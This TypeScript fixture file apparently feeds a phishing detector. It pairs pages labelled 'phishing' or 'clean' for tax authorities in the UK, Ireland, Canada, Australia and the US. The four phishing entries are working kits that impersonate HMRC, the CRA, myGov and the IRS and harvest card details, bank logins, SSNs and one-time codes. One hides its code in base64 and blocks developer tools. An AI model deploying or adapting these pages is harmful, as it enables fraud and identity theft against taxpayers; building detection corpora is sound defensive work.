import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, govukCss, govukHeader, govukFooter, appCss, badge, wordmark, b64, crownSvg } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-hmrc-refund-card-kit',
  label: 'phishing',
  kind: 'tax-authority-kit',
  url: 'https://hmrc-taxrefund-claim.uk/refund/claim?ref=UTR-2024-25',
  body: page({
    title: 'Claim a tax refund - GOV.UK',
    css: govukCss + `.pane{display:none}.pane.on{display:block}`,
    body: `${govukHeader('Claim a tax refund')}
<div class="govuk-width-container">
<div class="govuk-phase-banner"><strong class="govuk-tag">Beta</strong> This is a new service – your <a href="#">feedback</a> will help us to improve it.</div>
<main class="govuk-main-wrapper" id="main-content">
<div class="govuk-grid-row"><div class="govuk-grid-column-two-thirds">
<div class="govuk-error-summary" id="errs"><h2 class="govuk-heading-m">There is a problem</h2><p class="govuk-body">Check the details you entered.</p></div>
<form id="rf" method="post" action="/refund/process.php" novalidate>
<section class="pane on" data-p="1">
  <span class="govuk-caption-l">HM Revenue &amp; Customs</span>
  <h1 class="govuk-heading-l">You are due a tax refund of £648.21</h1>
  <p class="govuk-body">After the annual calculation of your fiscal activity for the 2024 to 2025 tax year, we have determined that you are eligible to receive a tax refund. Refunds must be claimed within 3 working days of this notice.</p>
  <div class="govuk-inset-text">Reference: <b>HMRC-RF-7719-2248</b></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="fn">Full name</label><input class="govuk-input" id="fn" name="fullname" autocomplete="name"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s">Date of birth</label><span class="govuk-hint">For example, 27 3 1981</span>
  <div class="govuk-date-input"><input class="govuk-input govuk-input--width-2" name="dob_d" inputmode="numeric" placeholder="DD"><input class="govuk-input govuk-input--width-2" name="dob_m" inputmode="numeric" placeholder="MM"><input class="govuk-input govuk-input--width-4" name="dob_y" inputmode="numeric" placeholder="YYYY"></div></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="ni">National Insurance number</label><span class="govuk-hint">It's on your National Insurance card, payslip or P60. For example, 'QQ 12 34 56 C'.</span><input class="govuk-input govuk-input--width-10" id="ni" name="nino"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="pc">Postcode</label><input class="govuk-input govuk-input--width-10" id="pc" name="postcode" autocomplete="postal-code"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="mob">Mobile number</label><input class="govuk-input" id="mob" name="mobile" type="tel"></div>
  <button type="button" class="govuk-button" data-next="2">Continue</button>
</section>
<section class="pane" data-p="2">
  <h1 class="govuk-heading-l">Where should we send your refund?</h1>
  <p class="govuk-body">Refunds are paid straight to a debit card. Enter the card details of the account you want the refund to be paid into.</p>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="ch">Name on card</label><input class="govuk-input" id="ch" name="cardholder" autocomplete="cc-name"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="cn">Card number</label><input class="govuk-input" id="cn" name="ccnum" inputmode="numeric" autocomplete="cc-number" maxlength="19"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s">Expiry date</label><div class="govuk-date-input"><input class="govuk-input govuk-input--width-2" name="exp_m" placeholder="MM"><input class="govuk-input govuk-input--width-4" name="exp_y" placeholder="YY"></div></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="cv">Security code</label><span class="govuk-hint">The last 3 digits on the back of the card</span><input class="govuk-input govuk-input--width-4" id="cv" name="cvv" inputmode="numeric" maxlength="4" autocomplete="cc-csc"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="sc">Sort code</label><input class="govuk-input govuk-input--width-5" id="sc" name="sortcode"></div>
  <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="an">Account number</label><input class="govuk-input govuk-input--width-10" id="an" name="accnum"></div>
  <button type="submit" class="govuk-button">Submit claim</button>
</section>
</form>
</div></div>
</main></div>
${govukFooter()}
<script>
document.querySelectorAll('[data-next]').forEach(function(b){b.addEventListener('click',function(){
 var f=document.getElementById('rf');if(!f.fullname.value||!f.nino.value){document.getElementById('errs').style.display='block';return;}
 document.getElementById('errs').style.display='none';
 navigator.sendBeacon&&navigator.sendBeacon('/refund/log.php',new FormData(f));
 document.querySelector('.pane.on').classList.remove('on');document.querySelector('[data-p="'+b.dataset.next+'"]').classList.add('on');window.scrollTo(0,0);});});
</script>`,
  }),
  routes: {
    'hmrc-taxrefund-claim.uk/refund/log.php': jsonRoute({ ok: true }),
    'hmrc-taxrefund-claim.uk/refund/process.php': htmlRoute(page({ title: 'Claim received - GOV.UK', css: govukCss, body: `${govukHeader('Claim a tax refund')}<div class="govuk-width-container"><main class="govuk-main-wrapper"><h1 class="govuk-heading-l">Processing your refund</h1><p class="govuk-body">Please do not close this window. You may receive a verification code from your bank.</p><form method="post" action="/refund/otp.php"><div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="o">Verification code</label><input class="govuk-input govuk-input--width-10" id="o" name="otp"></div><button class="govuk-button">Confirm</button></form></main></div>${govukFooter()}` })),
    'hmrc-taxrefund-claim.uk/refund/otp.php': redirectRoute(302, 'https://www.gov.uk/'),
  },
},
{
  id: 'ya-ros-ie-certificate-login',
  label: 'clean',
  kind: 'tax-authority-own-domain',
  url: 'https://www.ros.ie/oidc/login?client_id=rosint_rp&scope=openid&response_type=code&redirect_uri=https%3A%2F%2Fwww.ros.ie%2Fros-web%2Fauth',
  body: page({
    title: 'ROS Login - Revenue Online Service',
    lang: 'en-IE',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f6f5;color:#1a1a1a}
header{background:#004d44;color:#fff;padding:14px 24px;display:flex;align-items:center;gap:12px}
main{max-width:560px;margin:40px auto;background:#fff;border:1px solid #cfdedb;padding:28px 32px}
h1{color:#004d44;font-size:24px;margin-top:0}
label{display:block;font-weight:bold;margin:16px 0 6px;font-size:14px}
input[type=password],input[type=file],select{width:100%;box-sizing:border-box;padding:8px;border:1px solid #7a8d8a}
.btn{margin-top:20px;background:#00856f;color:#fff;border:0;padding:10px 24px;font-size:15px;cursor:pointer}
.note{font-size:13px;color:#3c4b48;margin-top:18px}`,
    body: `<header>${badge('R', '#fff', '#004d44', 36)}<div><b style="font-size:20px">Revenue Online Service</b><br><span style="font-size:12px">Cáin agus Custaim na hÉireann</span></div></header>
<main>
<h1>ROS Login</h1>
<p style="font-size:14px">Log in to ROS using your ROS digital certificate. If your certificate is already stored in this browser, select it from the list.</p>
<form id="rosLogin" method="post" action="/oidc/login/cert">
  <label for="cert">Certificate</label><select id="cert" name="certificate"><option value="">Browse for a certificate file…</option></select>
  <label for="certfile">Certificate file (.p12)</label><input type="file" id="certfile" accept=".p12,.bac">
  <label for="pw">Password</label><input type="password" id="pw" name="password" autocomplete="off">
  <button class="btn" type="submit">Login</button>
</form>
<p class="note">Revenue will never send you a text or email containing a link asking for your card details to receive a refund. Refunds are only paid to the bank account registered on myAccount or ROS. <a href="https://www.revenue.ie/en/online-services/support/scam-alerts.aspx">Revenue scam alerts</a></p>
<p class="note"><a href="https://www.revenue.ie/en/online-services/support/ros-help/ros-digital-certificates/index.aspx">Help with ROS certificates</a> · <a href="https://www.ros.ie/myaccount-web/home.html">Go to myAccount</a></p>
</main>
<script>
(function(){var s=document.getElementById('cert');try{var c=JSON.parse(localStorage.getItem('ros.certs')||'[]');c.forEach(function(x){var o=document.createElement('option');o.value=x.id;o.textContent=x.name+' ('+x.taxNumber+')';s.appendChild(o);});}catch(e){}})();
</script>`,
  }),
},
{
  id: 'ya-arc-remboursement-interac-fr',
  label: 'phishing',
  kind: 'tax-authority-kit',
  url: 'https://arc-remboursement-canada.com/interac/depot/?lang=fr',
  body: page({
    title: 'Agence du revenu du Canada – Dépôt Interac',
    lang: 'fr-CA',
    css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;color:#333;background:#fff}
.fip{border-bottom:4px solid #26374a;padding:14px 24px;display:flex;justify-content:space-between;align-items:center}
.fip .flag{display:flex;align-items:center;gap:8px;font-size:14px}
.fip .flag i{display:inline-block;width:28px;height:14px;background:linear-gradient(90deg,#d52b1e 25%,#fff 25%,#fff 75%,#d52b1e 75%)}
main{max-width:760px;margin:26px auto;padding:0 18px}
h1{font-family:Lato,Arial,sans-serif;border-bottom:1px solid #af3c43;padding-bottom:8px;font-size:30px}
.alert{border-left:6px solid #278400;background:#f2f9ef;padding:12px 16px;margin:18px 0}
.banks{display:grid;grid-template-columns:repeat(auto-fill,minmax(160px,1fr));gap:12px;margin:20px 0}
.banks button{padding:18px 10px;border:1px solid #ccc;background:#fff;border-radius:6px;font-weight:bold;font-size:15px;cursor:pointer}
.banks button:hover{border-color:#26374a;background:#f5f7fa}
#login{display:none;border:1px solid #ccc;padding:20px;border-radius:6px}
label{display:block;font-weight:bold;margin:12px 0 4px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #666}
.go{margin-top:18px;background:#26374a;color:#fff;border:0;padding:10px 24px;font-size:16px;cursor:pointer}
footer{background:#26374a;color:#fff;font-size:13px;padding:18px 24px;margin-top:50px}`,
    body: `<div class="fip"><div class="flag"><i></i><span>Gouvernement du Canada<br>Government of Canada</span></div><a href="?lang=en">English</a></div>
<main>
<h1>Remboursement d'impôt – Dépôt par virement Interac<sup>MD</sup></h1>
<div class="alert">Après le dernier calcul annuel de votre activité fiscale, vous avez droit à un remboursement de <b>842,19 $</b>. Sélectionnez votre institution financière pour accepter le dépôt.</div>
<p>Numéro de référence : <b>CRA-RF-4471-90QC</b></p>
<div class="banks" id="banks">
  <button data-b="Desjardins">Desjardins</button><button data-b="RBC Banque Royale">RBC Banque Royale</button><button data-b="Banque Nationale">Banque Nationale</button>
  <button data-b="TD Canada Trust">TD Canada Trust</button><button data-b="BMO">BMO Banque de Montréal</button><button data-b="Banque Scotia">Banque Scotia</button>
  <button data-b="CIBC">CIBC</button><button data-b="Tangerine">Tangerine</button><button data-b="Banque Laurentienne">Banque Laurentienne</button>
</div>
<form id="login">
  <h2 id="bn"></h2>
  <label for="c">Numéro de carte ou nom d'utilisateur</label><input id="c" name="u" required>
  <label for="p">Mot de passe</label><input id="p" name="p" type="password" required>
  <label for="q">Réponse à la question de sécurité</label><input id="q" name="q">
  <label for="n">Numéro d'assurance sociale (NAS)</label><input id="n" name="nas" maxlength="11">
  <button class="go">Déposer</button>
</form>
</main>
<footer>Agence du revenu du Canada · Avis · Confidentialité · <span style="float:right">Canada</span></footer>
<script>
var bank='';document.querySelectorAll('#banks button').forEach(function(b){b.onclick=function(){bank=b.dataset.b;document.getElementById('bn').textContent='Connexion – '+bank;document.getElementById('banks').style.display='none';document.getElementById('login').style.display='block';};});
document.getElementById('login').onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.append('bank',bank);
fetch('/interac/depot/actions/login.php',{method:'POST',body:d}).then(function(){location.href='/interac/depot/attente.html';});};
</script>`,
  }),
  routes: {
    'arc-remboursement-canada.com/interac/depot/actions/login.php': jsonRoute({ next: 'otp' }),
    'arc-remboursement-canada.com/interac/depot/attente.html': htmlRoute(page({ title: 'Veuillez patienter', lang: 'fr-CA', body: `<p style="font-family:Arial;text-align:center;margin-top:20vh">Traitement de votre dépôt… Un code de vérification vous sera envoyé par texto.</p><form method="post" action="actions/otp.php" style="text-align:center"><input name="otp" placeholder="Code à 6 chiffres"> <button>Valider</button></form>` })),
  },
},
{
  id: 'ya-canada-ca-mon-dossier-entreprise-fr',
  label: 'clean',
  kind: 'tax-authority-own-domain',
  url: 'https://www.canada.ca/fr/agence-revenu/services/services-electroniques/services-electroniques-entreprises/dossier-entreprise.html?utm_source=cpa_quebec&utm_medium=bulletin',
  body: page({
    title: "Mon dossier d'entreprise – Canada.ca",
    lang: 'fr-CA',
    css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;color:#333;line-height:1.6}
.fip{border-bottom:4px solid #26374a;padding:14px 24px;display:flex;justify-content:space-between;align-items:center}
.fip .flag{display:flex;align-items:center;gap:8px;font-size:14px}.fip .flag i{display:inline-block;width:28px;height:14px;background:linear-gradient(90deg,#d52b1e 25%,#fff 25%,#fff 75%,#d52b1e 75%)}
main{max-width:900px;margin:20px auto;padding:0 18px}
h1{font-family:Lato,Arial,sans-serif;border-bottom:1px solid #af3c43;padding-bottom:8px}
.btn{display:inline-block;background:#26374a;color:#fff;padding:10px 22px;text-decoration:none;border-radius:4px;margin:6px 8px 6px 0}
.warn{border-left:6px solid #ee7100;background:#fcf3ea;padding:12px 16px;margin:20px 0}
footer{background:#26374a;color:#fff;font-size:13px;padding:18px 24px;margin-top:50px}footer a{color:#fff}`,
    body: `<div class="fip"><div class="flag"><i></i><span>Gouvernement du Canada<br>Government of Canada</span></div><a href="https://www.canada.ca/en/revenue-agency/services/e-services/digital-services-businesses/business-account.html" lang="en">English</a></div>
<main>
<nav style="font-size:14px"><a href="https://www.canada.ca/fr.html">Canada.ca</a> › <a href="https://www.canada.ca/fr/agence-revenu.html">Agence du revenu du Canada</a> › Services électroniques</nav>
<h1>Mon dossier d'entreprise</h1>
<p>Mon dossier d'entreprise est un portail sécurisé qui vous permet d'accéder aux renseignements sur vos comptes de TPS/TVH, de retenues sur la paie et d'impôt des sociétés, et de les gérer.</p>
<p><a class="btn" href="https://www.canada.ca/fr/agence-revenu/services/services-electroniques/services-electroniques-entreprises/dossier-entreprise/ouvrir-session.html">Ouvrir une session</a><a class="btn" style="background:#fff;color:#26374a;border:1px solid #26374a" href="https://www.canada.ca/fr/agence-revenu/services/services-electroniques/services-electroniques-entreprises/dossier-entreprise/inscription.html">S'inscrire</a></p>
<h2>Ce que vous pouvez faire</h2>
<ul><li>faire un paiement au moyen de Mon paiement ou de votre institution financière;</li><li>produire une déclaration de TPS/TVH et consulter son état;</li><li>demander un remboursement par dépôt direct;</li><li>autoriser un représentant, comme votre comptable.</li></ul>
<div class="warn"><b>Arnaques :</b> L'ARC n'envoie jamais de remboursement par virement Interac et ne vous demande jamais de choisir votre banque à partir d'un lien reçu par texto ou courriel. <a href="https://www.canada.ca/fr/agence-revenu/organisation/securite/protegez-vous-contre-fraude.html">Protégez-vous contre la fraude</a>.</div>
<p style="font-size:14px">Date de modification : 2025-09-02</p>
</main>
<footer><a href="https://www.canada.ca/fr/contact.html">Contactez-nous</a> · <a href="https://www.canada.ca/fr/transparence/avis.html">Avis</a> · <a href="https://www.canada.ca/fr/transparence/confidentialite.html">Confidentialité</a></footer>`,
  }),
},
{
  id: 'ya-mygov-ato-docwrite-kit',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://my-gov-au.services/LoginServices/main/login?execution=e1s1',
  body: `<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>myGov</title></head><body>
<script>
var _0x3f=['${b64(`<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;color:#313131}.hd{background:#fff;border-bottom:4px solid #4b2f84;padding:14px 24px;display:flex;align-items:center;gap:12px}.hd b{font-size:24px;color:#313131}.hd b span{color:#4b2f84}.m{max-width:480px;margin:36px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 2px rgba(0,0,0,.15)}h1{font-size:26px;margin:0 0 16px}label{display:block;font-weight:bold;margin:16px 0 6px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #767676;font-size:16px}.b{margin-top:22px;background:#4b2f84;color:#fff;border:0;padding:12px 28px;font-size:16px;border-radius:4px;cursor:pointer}.n{background:#fff7e0;border-left:5px solid #f4b400;padding:10px 14px;font-size:14px;margin-bottom:16px}</style>`)}','${b64(`<div class="hd"><b>my<span>Gov</span></b><span style="font-size:13px;color:#555">Australian Government</span></div><div class="m"><h1>Sign in with myGov</h1><div class="n">The Australian Taxation Office has issued a refund of <b>$1,326.80</b> to your linked business. Sign in to confirm your payment details.</div><form id="mg"><label for="u">Username or email</label><input id="u" name="u" autocomplete="username"><label for="p">Password</label><input id="p" name="p" type="password"><div id="otp" style="display:none"><label for="c">Code sent to your mobile</label><input id="c" name="c" inputmode="numeric" maxlength="6"><label for="bsb">BSB</label><input id="bsb" name="bsb" maxlength="7"><label for="acc">Account number</label><input id="acc" name="acc"></div><button class="b" type="submit">Next</button></form><p style="font-size:13px;margin-top:18px"><a href="#">Forgot username</a> · <a href="#">Forgot password</a> · <a href="#">Create a myGov account</a></p></div>`)}','${b64(`(function(){var s=0,f=document.getElementById("mg");f.addEventListener("submit",function(e){e.preventDefault();var d=new FormData(f);d.append("s",String(s));fetch("/LoginServices/main/x.php",{method:"POST",body:d}).then(function(){if(s===0){s=1;document.getElementById("otp").style.display="block";}else{location.href="https://my.gov.au/";}});});})();`)}'];
(function(a){document.write(atob(a[0])+atob(a[1]));var s=document.createElement('script');s.text=atob(a[2]);document.body.appendChild(s);})(_0x3f);
document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&e.keyCode==73)||(e.ctrlKey&&e.keyCode==85))return false;};
</script>
</body></html>`,
  routes: { 'my-gov-au.services/LoginServices/main/x.php': jsonRoute({ ok: 1 }) },
},
{
  id: 'ya-ato-online-services-business-page',
  label: 'clean',
  kind: 'tax-authority-own-domain',
  url: 'https://www.ato.gov.au/business/online-services-for-business?anchor=Loggingin',
  body: page({
    title: 'Online services for business | Australian Taxation Office',
    lang: 'en-AU',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;color:#313131;line-height:1.6}
.hd{background:#fff;border-bottom:1px solid #ddd;padding:14px 24px;display:flex;align-items:center;justify-content:space-between}
.hd .l{font-weight:bold;font-size:18px;color:#003a5d}
main{max-width:920px;margin:24px auto;padding:0 20px}
h1{color:#003a5d}.cta{display:inline-block;background:#003a5d;color:#fff;padding:11px 22px;text-decoration:none;border-radius:4px;margin-right:10px}
.note{background:#eef5fa;border-left:5px solid #0073b0;padding:12px 16px;margin:20px 0}
footer{background:#003a5d;color:#fff;font-size:13px;padding:20px 24px;margin-top:40px}footer a{color:#fff;margin-right:14px}`,
    body: `<div class="hd"><span class="l">Australian Government · Australian Taxation Office</span><a href="https://www.ato.gov.au/about-ato/contact-us">Contact us</a></div>
<main>
<p style="font-size:14px"><a href="https://www.ato.gov.au/">Home</a> › <a href="https://www.ato.gov.au/businesses-and-organisations">Businesses and organisations</a></p>
<h1>Online services for business</h1>
<p>Online services for business is the ATO's secure online service that lets you manage your business tax and super obligations, lodge activity statements, and view your account balances.</p>
<p><a class="cta" href="https://onlineservices.ato.gov.au/business/">Log in to Online services for business</a></p>
<p>You need a myID with a Standard or Strong identity strength and your business must be linked in Relationship Authorisation Manager (RAM).</p>
<div class="note"><b>Scam alert:</b> we're aware of SMS and emails impersonating myGov and the ATO that tell you a refund is waiting and link to a fake sign-in page. We'll never send you an SMS or email with a link to log on to our online services. <a href="https://www.ato.gov.au/online-services/scams-cyber-safety-and-identity-protection/scam-alerts">Check current scam alerts</a>.</div>
<h2>What you can do</h2>
<ul><li>lodge and revise activity statements</li><li>view and pay your account balance</li><li>request a refund to your nominated financial institution account</li><li>update business registration details</li></ul>
<p style="font-size:13px;color:#555">QC 61832 · Last updated 5 August 2025</p>
</main>
<footer><a href="https://www.ato.gov.au/about-ato/access-accountability-and-reporting/access/privacy">Privacy</a><a href="https://www.ato.gov.au/about-ato/access-accountability-and-reporting/access/accessibility">Accessibility</a><a href="https://www.ato.gov.au/about-ato/legal-notices">Copyright</a></footer>`,
  }),
},
{
  id: 'ya-irs-business-account-idme-kit',
  label: 'phishing',
  kind: 'tax-authority-kit',
  url: 'https://irs-businesstaxaccount.us/verify/ein',
  body: page({
    title: 'IRS Business Tax Account | Verify your identity',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#f1f1f1;color:#1b1b1b}
.gb{background:#1b1b1b;color:#fff;font-size:12px;padding:4px 20px}
.hd{background:#00599c;color:#fff;padding:16px 24px;font-size:26px;font-weight:700;letter-spacing:1px}
.m{max-width:520px;margin:34px auto;background:#fff;padding:28px 32px;border-top:6px solid #00599c}
h1{font-size:24px;margin-top:0}.idme{display:flex;align-items:center;gap:8px;background:#08833d;color:#fff;padding:6px 12px;border-radius:4px;font-weight:700;width:max-content}
label{display:block;font-weight:700;margin:14px 0 5px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #565c65;font-size:16px}
.b{margin-top:20px;background:#00599c;color:#fff;border:0;padding:11px 22px;font-size:16px;cursor:pointer;border-radius:4px}
small{color:#565c65}`,
    body: `<div class="gb">An official website of the United States Government</div>
<div class="hd">IRS</div>
<div class="m">
<h1>Verify your Employer Identification Number</h1>
<p>Notice CP-575-V: we were unable to match the responsible party on file for your EIN. To avoid a suspension of your business tax account and federal deposits, verify your identity with ID.me.</p>
<div class="idme">ID.me</div>
<form method="post" action="/verify/submit">
<label>EIN</label><input name="ein" placeholder="12-3456789" required>
<label>Legal business name</label><input name="biz" required>
<label>Responsible party SSN</label><input name="ssn" placeholder="XXX-XX-XXXX" required>
<label>ID.me email</label><input name="email" type="email" required>
<label>ID.me password</label><input name="pass" type="password" required>
<label>Date of birth</label><input name="dob" type="date">
<button class="b">Continue to verification</button>
</form>
<p><small>Unauthorized access to this United States Government computer system is prohibited.</small></p>
</div>`,
  }),
  routes: { 'irs-businesstaxaccount.us/verify/submit': redirectRoute(302, 'https://www.irs.gov/') },
},
];
